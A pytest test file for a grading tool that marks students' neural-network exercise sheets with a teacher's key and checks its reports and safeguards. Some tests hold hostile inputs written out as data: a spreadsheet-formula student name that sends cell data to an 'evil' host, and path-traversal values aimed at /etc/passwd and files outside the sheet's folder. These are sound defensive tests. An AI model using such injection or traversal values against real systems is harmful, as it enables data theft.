"""Marking a class with a teacher's key: the key decides, follow-through, unreadable sheets, the class view,
reports and JSON, as a TA runs `bptrace check SHEETS... --key key.yaml`."""

from __future__ import annotations

import csv
import io
import json
import math
from pathlib import Path

import numpy as np
import pytest
from click.testing import CliRunner

from bptrace.cli.main import main
from bptrace.engine import step as engine
from bptrace.engine.quantities import value as quantity_value
from bptrace.grading.answers import derivation
from bptrace.grading.marking import VERDICTS
from bptrace.model import names
from bptrace.model.scenario import load

ROOT = Path(__file__).parent.parent
CLASS = ROOT / "examples" / "class"
SHEETS = sorted(str(p) for p in (CLASS / "sheets").glob("*.yaml"))
KEY = str(CLASS / "key.yaml")


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.stdout, result.stderr


def class_json(*args: str) -> dict:
    code, out, err = run("check", *args, "--format", "json")
    assert code in (0, 1), err
    return json.loads(out)


def by_student_file(data: dict) -> dict[str, dict]:
    return {Path(s["file"]).stem: s for s in data["students"]}


def answers_of(student: dict) -> dict[str, dict]:
    return {a["quantity"]: a for a in student["answers"]}


def write_key(path: Path, questions: dict[str, object], scenario: str = "mazur", rules: str = "") -> Path:
    lines = [f"exercise: {{scenario: {scenario}}}"]
    if rules:
        lines.append(f"rules: {rules}")
    lines.append("questions:")
    lines += [f"  {json.dumps(q)}: {json.dumps(p)}" for q, p in questions.items()]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def write_sheet(
    path: Path, answers: dict[str, object], student: str | None = None, scenario: str | None = None
) -> Path:
    lines = []
    if scenario:
        lines.append(f"scenario: {scenario}")
    if student:
        lines.append(f"student: {json.dumps(student, ensure_ascii=False)}")
    lines.append("answers:")
    lines += [f"  {json.dumps(q)}: {v}" for q, v in answers.items()]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


# ---------------------------------------------------------------------------------------------------
# The bundled example class (what the README's teacher section runs)


def test_the_example_class_gets_a_human_markers_marks() -> None:
    data = class_json(*SHEETS, "--key", KEY)
    s = by_student_file(data)
    assert set(s) == {"ada", "ada_again", "ben", "chloe", "dan", "eve", "lihua"}
    assert all(st["max_score"] == 14 for st in data["students"])
    scores = {k: v["score"] for k, v in s.items()}
    # ben: one slip (net_h1) carried through: every later step is right given it
    assert scores == {"ada": 14, "ben": 13, "chloe": 11, "dan": 0, "eve": 10, "lihua": 9, "ada_again": 4}
    ben = answers_of(s["ben"])
    assert ben["net_h1"]["verdict"] == "wrong"
    assert all(
        a["verdict"] == "follow-through" and a["rests_on"] == ["net_h1"] for q, a in ben.items() if q != "net_h1"
    )
    assert ben["out_h1"]["explanation"] == "right, given your net_h1"
    # chloe forgot f′ at the output: δ wrong, the steps built on her δ right given it
    chloe = answers_of(s["chloe"])
    assert chloe["delta_o1"]["verdict"] == "wrong" and chloe["delta_o1"]["codes"]
    assert chloe["dE/dw5"]["verdict"] == "follow-through" and chloe["dE/dw5"]["rests_on"] == ["delta_o1"]
    assert chloe["w5+"]["rests_on"] == ["delta_o1"] and chloe["w1+"]["rests_on"] == ["delta_h1"]
    # dan's sheet cannot be read: a row with 0 points and the one-line error
    assert s["dan"]["error"].endswith(
        "invalid YAML: mapping values are not allowed in this context "
        "(check the indentation and punctuation on that line)"
    )
    assert ":8:12:" in s["dan"]["error"] and s["dan"]["answers"] == []
    # eve: an unknown name and a malformed number are invalid; the rest is marked
    eve = answers_of(s["eve"])
    assert eve["w9+"]["verdict"] == "invalid" and "did you mean" in eve["w9+"]["explanation"]
    assert eve["w1+"]["verdict"] == "invalid" and eve["w1+"]["given"] == "0.1497807l6"
    assert eve["w5+"]["verdict"] == "unanswered" and eve["w5+"]["points"] == 0
    assert [a["verdict"] for q, a in eve.items() if q not in ("w9+", "w1+", "w5+")] == ["correct"] * 10
    # 李华 gave w5+ 50 points of her own: ignored with a warning; the key's 2 points count
    assert answers_of(s["lihua"])["w5+"]["max_points"] == 2
    assert any("points ignored: the key decides the grading" in w for w in s["lihua"]["warnings"])
    assert "missing-learning-rate" in answers_of(s["lihua"])["w5+"]["codes"]
    # every verdict is one of the documented six, and every question of the key is on every readable row
    for st in data["students"]:
        assert all(a["verdict"] in VERDICTS for a in st["answers"])
        if st["error"] is None:
            assert {"net_h1", "E_total@1"} <= set(answers_of(st))
    summary = data["summary"]
    questions = {q["quantity"]: q["percent_correct"] for q in summary["questions"]}
    assert list(questions)[:2] == ["net_h1", "out_h1"] and len(questions) == 12
    assert questions["net_h1"] == pytest.approx(100 * 5 / 7)  # all but ben and dan
    assert questions["w5+"] == pytest.approx(100 * 1 / 7)  # ada only
    codes = {m["code"]: m for m in summary["misconceptions"]}
    assert codes["missing-learning-rate"]["students"] == ["李华"] and codes["missing-learning-rate"]["count"] == 1
    assert any(f["kind"] == "duplicate-name" and "Ada Lovelace" in f["detail"] for f in summary["flags"])


def test_the_example_class_in_the_terminal_and_summary_only() -> None:
    code, out, err = run("check", *SHEETS, "--key", KEY)
    assert code == 1
    assert "dan.yaml" in err and "(marked 0)" in err  # the unreadable sheet is also said on stderr
    assert "↪" in out and "right, given your net_h1" in out
    assert "Class: 7 sheets" in out and "Score distribution" in out and "For a human to look at" in out
    assert "李华" in out
    code, summary, _ = run("check", *SHEETS, "--key", KEY, "--summary")
    assert code == 1
    assert "right, given your net_h1" not in summary and "Class: 7 sheets" in summary
    assert "duplicate-name: the student name 'Ada Lovelace' is on 2 sheets" in summary
    assert summary.count("█") > 0
    # the key itself caught by a glob is skipped, not marked as a sheet
    assert run("check", *SHEETS, KEY, "--key", KEY, "--summary")[1] == summary


def test_gradescope_one_results_json_per_submission(tmp_path: Path) -> None:
    out = tmp_path / "results.json"
    code, _, err = run(
        "check", str(CLASS / "sheets" / "ben.yaml"), "--key", KEY, "--format", "gradescope", "-o", str(out)
    )
    assert code == 1, err
    data = json.loads(out.read_text(encoding="utf-8"))
    assert (data["score"], data["max_score"]) == (13, 14)
    assert {t["name"] for t in data["tests"]} >= {"net_h1", "w5+"}
    assert next(t for t in data["tests"] if t["name"] == "out_h1")["status"] == "passed"
    # a submission that cannot be read still gets a results.json: score 0 and the reason
    bad = tmp_path / "bad.json"
    code, _, _ = run(
        "check", str(CLASS / "sheets" / "dan.yaml"), "--key", KEY, "--format", "gradescope", "-o", str(bad)
    )
    data = json.loads(bad.read_text(encoding="utf-8"))
    assert data["score"] == 0 and data["max_score"] == 14 and data["tests"] == []
    assert data["output"].startswith("This submission cannot be read: ") and "invalid YAML" in data["output"]


# ---------------------------------------------------------------------------------------------------
# The key decides


def test_a_sheet_never_decides_its_own_grade(tmp_path: Path) -> None:
    key = write_key(tmp_path / "key.yaml", {"net_h1": 1, "out_o1": 1, "w5+": 2})
    # the sheet: out_o1 wrong but with tolerance 1 and 50 points of its own
    sheet = write_sheet(
        tmp_path / "s.yaml",
        {"out_o1": "{value: 0.5, tolerance: 1, points: 50}"},
        "Mallory",
        scenario="single_neuron_mse",
    )
    st = class_json(str(sheet), "--key", str(key))["students"][0]
    assert (st["score"], st["max_score"]) == (0, 4)
    a = answers_of(st)
    # 0.5 is one significant digit, below the key's minimum: not right, and too short to diagnose
    assert a["out_o1"]["verdict"] == "too-few-digits" and a["out_o1"]["points"] == 0
    assert a["out_o1"]["max_points"] == 1
    assert a["net_h1"]["verdict"] == a["w5+"]["verdict"] == "unanswered"
    warnings = " ".join(st["warnings"])
    assert "points, tolerance ignored: the key decides the grading" in warnings
    assert "scenario: 'single_neuron_mse' ignored: the key's exercise is 'mazur'" in warnings
    # answering one question right is 1 of the key's points, not "1/1"
    one = write_sheet(tmp_path / "one.yaml", {"net_h1": "0.3775"})
    st = class_json(str(one), "--key", str(key))["students"][0]
    assert (st["score"], st["max_score"]) == (1, 4)


def test_the_key_rules_tolerance_credit_and_accept(tmp_path: Path) -> None:
    t = engine.trace(load("mazur"))
    w5 = quantity_value(names.parse("w5+", t.scenario), t)
    no_eta = 0.4 - quantity_value(names.parse("dE/dw5", t.scenario), t)  # w5+ without η
    sheet = write_sheet(tmp_path / "s.yaml", {"w5+": f"{no_eta:.9g}", "out_o1": "0.7514"})
    plain = write_key(tmp_path / "a.yaml", {"w5+": 4, "out_o1": 1})
    assert class_json(str(sheet), "--key", str(plain))["students"][0]["score"] == 1
    credit = write_key(
        tmp_path / "b.yaml", {"w5+": 4, "out_o1": 1}, rules="{misconceptions: {missing-learning-rate: 0.5}}"
    )
    st = class_json(str(sheet), "--key", str(credit))["students"][0]
    assert st["score"] == 3 and answers_of(st)["w5+"]["verdict"] == "wrong"
    strict = write_key(tmp_path / "c.yaml", {"w5+": 4, "out_o1": 1}, rules="{min_digits: 5}")
    assert (
        answers_of(class_json(str(sheet), "--key", str(strict))["students"][0])["out_o1"]["verdict"] == "too-few-digits"
    )
    wide = write_key(tmp_path / "d.yaml", {"w5+": {"points": 4, "tolerance": abs(w5 - no_eta) * 1.01}, "out_o1": 1})
    assert class_json(str(sheet), "--key", str(wide))["students"][0]["score"] == 5


def test_command_line_rules_with_a_key_are_refused(tmp_path: Path) -> None:
    key = write_key(tmp_path / "key.yaml", {"net_h1": 1})
    sheet = write_sheet(tmp_path / "s.yaml", {"net_h1": "0.3775"})
    code, out, err = run("check", str(sheet), "--key", str(key), "--min-digits", "5")
    assert code == 2 and out == ""
    assert "with --key the key's rules decide; --min-digits cannot be given too" in err and "edit rules:" in err


def test_without_a_key_it_is_a_self_check(tmp_path: Path) -> None:
    sheet = write_sheet(tmp_path / "s.yaml", {"net_h1": "0.3775"}, scenario="mazur")
    code, out, _ = run("check", str(sheet))
    assert code == 0 and "Self-check: marked with the sheet's own points and tolerances, not a grade" in out
    for extra in (
        ["--report", str(tmp_path / "g.csv")],
        ["--format", "gradescope"],
        ["--summary"],
        ["--report-long", str(tmp_path / "l.csv")],
    ):
        code, out, err = run("check", str(sheet), *extra)
        assert code == 2 and out == "", extra
        assert "need" in err and "--key" in err and "bptrace key SCENARIO > key.yaml" in err
    assert not (tmp_path / "g.csv").exists()


# ---------------------------------------------------------------------------------------------------
# Follow-through, by an oracle: a student who misread an input and computed everything else right
# has, after that input, exactly the engine's trace of the scenario with that input changed.


FOLLOW_CASES = [
    ("mazur", "out_i1"),
    ("learner_004", None),
    ("ng_shallow", None),
    ("softmax_classifier", None),
    ("deep_general_delta", None),
]


@pytest.mark.parametrize(("name", "misread"), FOLLOW_CASES)
def test_a_misread_input_carried_through_is_follow_through(name: str, misread: str | None, tmp_path: Path) -> None:
    s = load(name)
    first = s.input_names[0]
    misread = misread or (f"out_{first}" if s.samples == 1 else f"out_{first}:1")
    inputs = s.inputs.copy()
    inputs[0, 0] = inputs[0, 0] + 0.25  # the student's reading of the first input
    t_student = engine.trace(s.with_changes(inputs=inputs))
    t = engine.trace(s)
    answers = {misread: f"{inputs[0, 0]:.14e}"}
    for _, _, n in derivation(s):
        for spelled in names.spellings(n, s):
            q = names.parse(spelled, s)
            # 15 digits, trailing zeros kept: a batch mean of per-sample values ~2 can be ~1e-5 (cancellation)
            answers[spelled] = f"{quantity_value(q, t_student):.14e}"
    questions = {n: 1 for n in answers}
    key = write_key(tmp_path / "key.yaml", questions, scenario=name, rules="{rtol: 1e-8}")
    sheet = write_sheet(tmp_path / "s.yaml", {n: json.dumps(v) for n, v in answers.items()})
    st = class_json(str(sheet), "--key", str(key))["students"][0]
    a = answers_of(st)
    assert a[misread]["verdict"] == "wrong"
    verdicts = {q: x["verdict"] for q, x in a.items() if q != misread}
    assert set(verdicts.values()) <= {"correct", "follow-through"}, {
        q: v for q, v in verdicts.items() if v not in ("correct", "follow-through")
    }
    carried = [q for q, v in verdicts.items() if v == "follow-through"]
    assert all(a[q]["rests_on"] == [misread] for q in carried)
    # exactly the answers that differ from the exact value are follow-through
    differ = [
        q
        for q in verdicts
        if not math.isclose(float(answers[q]), quantity_value(names.parse(q, s), t), rel_tol=1e-8, abs_tol=1e-12)
    ]
    assert carried == differ and len(carried) > 20
    assert st["score"] == st["max_score"] - 1


def test_follow_through_recomputes_each_rule_of_the_engine() -> None:
    """With no answer given, the student's world is the engine's trace, quantity by quantity (an oracle for
    every rule of followthrough.World over every bundled scenario it applies to)."""
    from bptrace.grading.followthrough import World
    from bptrace.model.scenario import bundled_names

    checked = 0
    for name in bundled_names():
        s = load(name)
        t = engine.trace(s)
        world = World(t, {}, lambda n: frozenset())
        for _, _, n in derivation(s):
            for spelled in names.spellings(n, s):
                r = world.recompute(spelled)
                if s.max_margin:
                    assert r is None
                    continue
                assert r is not None, (name, spelled)
                exact = quantity_value(names.parse(spelled, s), t)
                assert math.isclose(r.value, exact, rel_tol=1e-9, abs_tol=1e-13), (name, spelled, r.value, exact)
                assert r.rests_on == frozenset()
                checked += 1
    assert checked > 1000


def test_follow_through_credit_and_a_hand_computed_mazur_chain(tmp_path: Path) -> None:
    # out_h1 wrong; net_o1 = w5·out_h1 + w6·out_h2 + b2 with the student's out_h1 (by hand, not by bptrace)
    out_h1, out_h2 = 0.6, 1 / (1 + math.exp(-(0.25 * 0.05 + 0.30 * 0.10 + 0.35)))
    net_o1 = 0.40 * out_h1 + 0.45 * out_h2 + 0.60
    out_o1 = 1 / (1 + math.exp(-net_o1))
    sheet = write_sheet(
        tmp_path / "s.yaml",
        {"out_h1": "0.600", "net_o1": f"{net_o1:.9g}", "out_o1": f"{out_o1:.9g}", "out_o2": "0.9000"},
    )
    key = write_key(
        tmp_path / "k.yaml", {"out_h1": 1, "net_o1": 2, "out_o1": 2, "out_o2": 1}, rules="{follow_through: 0.5}"
    )
    st = class_json(str(sheet), "--key", str(key))["students"][0]
    a = answers_of(st)
    assert [a[q]["verdict"] for q in ("out_h1", "net_o1", "out_o1")] == ["wrong", "follow-through", "follow-through"]
    assert a["out_o1"]["rests_on"] == ["out_h1"]  # through the student's net_o1, which rests on it
    assert a["out_o2"]["verdict"] == "wrong" and a["out_o2"]["rests_on"] == []  # right for no out_h1 of theirs
    assert st["score"] == 0.5 * 2 + 0.5 * 2


# ---------------------------------------------------------------------------------------------------
# Several scenarios, named and matrix form, and a batch


def test_a_batch_scenario_with_hand_written_sheets(tmp_path: Path) -> None:
    s = load("learner_004")
    assert s.samples > 1 and not s.named
    t = engine.trace(s)
    qs = ["net_h1_1:1", "out_h1_1:2", "delta_h1_1", "dE/dW1_1_1", "W1_1_1+"]
    qs = [q for q in qs if names.parse_or_none(q, s) is not None]
    assert len(qs) >= 3, [n for _, _, n in derivation(s)][:10]
    exact = {q: quantity_value(names.parse(q, s), t) for q in qs}
    key = write_key(tmp_path / "k.yaml", dict.fromkeys(qs, 1), scenario="learner_004")
    right = write_sheet(tmp_path / "right.yaml", {q: f"{v:.9g}" for q, v in exact.items()}, "R")
    empty = write_sheet(tmp_path / "empty.yaml", {}, "E")
    wrong = write_sheet(tmp_path / "wrong.yaml", {q: f"{v * 1.5 + 0.01:.9g}" for q, v in exact.items()}, "W")
    data = class_json(str(right), str(empty), str(wrong), "--key", str(key))
    scores = {st["student"]: st["score"] for st in data["students"]}
    assert scores == {"R": len(qs), "E": 0, "W": 0}
    assert all(q["percent_correct"] == pytest.approx(100 / 3) for q in data["summary"]["questions"])


# ---------------------------------------------------------------------------------------------------
# Reports


def test_reports_wide_and_long_with_bom_neutralised_and_no_overwrite(tmp_path: Path) -> None:
    key = write_key(tmp_path / "key.yaml", {"net_h1": 1, "out_h1": 1, "dE/dw5": 2})
    a = write_sheet(tmp_path / "a.yaml", {"net_h1": "0.3775", "dE/dw5": "-0.5"}, '=HYPERLINK("http://evil/?"&A1,"x")')
    b = write_sheet(tmp_path / "b.yaml", {"net_h1": "0.3775", "out_h1": "0.593269992"}, "王小明")
    bad = tmp_path / "c.yaml"
    bad.write_text("answers: [1, 2\n", encoding="utf-8")
    grades, long = tmp_path / "grades.csv", tmp_path / "answers.csv"
    code, _, err = run(
        "check",
        str(a),
        str(b),
        str(bad),
        "--key",
        str(key),
        "--report",
        str(grades),
        "--report-long",
        str(long),
        "--summary",
    )
    assert code == 1, err
    raw = grades.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel shows 王小明
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0] == ["student", "sheet", "net_h1", "out_h1", "dE/dw5", "total", "max", "percent", "error"]
    by = {r[0]: r for r in rows[1:]}
    assert by['\'=HYPERLINK("http://evil/?"&A1,"x")'][2:8] == ["1", "0", "0", "1", "4", "25.0"]
    assert by["王小明"][2:8] == ["1", "1", "0", "2", "4", "50.0"]
    assert by["c"][5] == "0" and "invalid YAML" in by["c"][8]
    long_rows = list(csv.reader(io.StringIO(long.read_text(encoding="utf-8-sig"))))
    assert long_rows[0][-2:] == ["verdict", "rests_on"]
    given = {(r[0], r[2]): r[3] for r in long_rows[1:]}
    assert given[("王小明", "net_h1")] == "0.3775"
    assert any(v == "-0.5" for v in given.values())  # a negative number stays a number
    assert not any(r[0].startswith("=") for r in long_rows)
    # an existing report is not replaced without --force, and the check happens before any marking
    before = grades.read_bytes()
    code, out, err = run("check", str(a), "--key", str(key), "--report", str(grades))
    assert code == 2 and out == "" and "the file exists" in err and "--force" in err
    assert grades.read_bytes() == before
    code, _, _ = run("check", str(a), "--key", str(key), "--report", str(grades), "--force", "--summary")
    assert code == 1 and grades.read_bytes() != before


def test_identical_unexplained_wrong_answers_are_flagged(tmp_path: Path) -> None:
    key = write_key(tmp_path / "key.yaml", {"net_h1": 1, "out_h1": 1})
    for who in ("p", "q"):
        write_sheet(tmp_path / f"{who}.yaml", {"net_h1": "0.4123", "out_h1": "0.593269992"}, who.upper())
    write_sheet(tmp_path / "r.yaml", {"net_h1": "0.3775", "out_h1": "0.593269992"}, "R")
    data = class_json(*(str(tmp_path / f"{w}.yaml") for w in "pqr"), "--key", str(key))
    flags = [f for f in data["summary"]["flags"] if f["kind"] == "identical-wrong-answers"]
    assert len(flags) == 1 and sorted(Path(f).stem for f in flags[0]["files"]) == ["p", "q"]


def test_class_json_has_the_documented_fields() -> None:
    data = class_json(*SHEETS, "--key", KEY, "--hide-expected")
    for st in data["students"]:
        assert {"student", "file", "score", "max_score", "error", "answers"} <= set(st)
        for a in st["answers"]:
            assert {"quantity", "given", "expected", "verdict", "points", "codes", "rests_on"} <= set(a)
            assert a["expected"] is None
    assert {"questions", "misconceptions"} <= set(data["summary"])
    assert all(set(q) >= {"quantity", "percent_correct"} for q in data["summary"]["questions"])
    assert all(set(m) >= {"code", "count", "students"} for m in data["summary"]["misconceptions"])


# ---------------------------------------------------------------------------------------------------
# A sheet's scenario: names only a bundled scenario or a file in the sheet's folder


def test_a_sheet_may_not_name_files_outside_its_folder(tmp_path: Path) -> None:
    (tmp_path / "class").mkdir()
    (tmp_path / "class" / "sub").mkdir()
    secret = tmp_path / "secret.yaml"
    secret.write_text("root:x:0:0:root:/root:/bin/bash\n", encoding="utf-8")
    (tmp_path / "class" / "link.yaml").symlink_to(secret)
    (tmp_path / "class" / "sub" / "bad.yaml").write_text("password: hunter2\n", encoding="utf-8")
    (tmp_path / "class" / "sub" / "ex.yaml").write_text(run("new", "--seed", "5")[1], encoding="utf-8")
    for target in ("/etc/passwd", "../secret.yaml", "../../x.yaml", "link.yaml", str(secret)):
        sheet = write_sheet(tmp_path / "class" / "s.yaml", {"net_h1": "0.1"}, scenario=json.dumps(target))
        code, out, err = run("check", str(sheet))
        assert code == 2 and out == "", target
        assert "is not beside the sheet or below its folder" in err and "-s SCENARIO" in err, err
        assert "root:" not in err and "hunter2" not in err
    # a broken scenario in the folder: said without quoting it
    sheet = write_sheet(tmp_path / "class" / "s.yaml", {"net_h1": "0.1"}, scenario="sub/bad.yaml")
    code, _, err = run("check", str(sheet))
    assert code == 2 and "is not a valid scenario" in err and "hunter2" not in err and "password" not in err
    # a file below the sheet's folder is fine, and -s reaches anywhere
    ok = write_sheet(tmp_path / "class" / "s.yaml", {"net_h1_1": "0.1"}, scenario="sub/ex.yaml")
    assert run("check", str(ok))[0] == 1
    assert run("check", str(ok), "-s", str(tmp_path / "class" / "sub" / "ex.yaml"))[0] == 1


def test_fuzzy_student_names_are_kept_verbatim_in_json(tmp_path: Path) -> None:
    key = write_key(tmp_path / "key.yaml", {"net_h1": 1})
    sheet = write_sheet(tmp_path / "s.yaml", {"net_h1": "0.3775"}, "Zoë 张")
    st = class_json(str(sheet), "--key", str(key))["students"][0]
    assert st["student"] == "Zoë 张" and st["score"] == 1
    assert np.isfinite(st["max_score"])
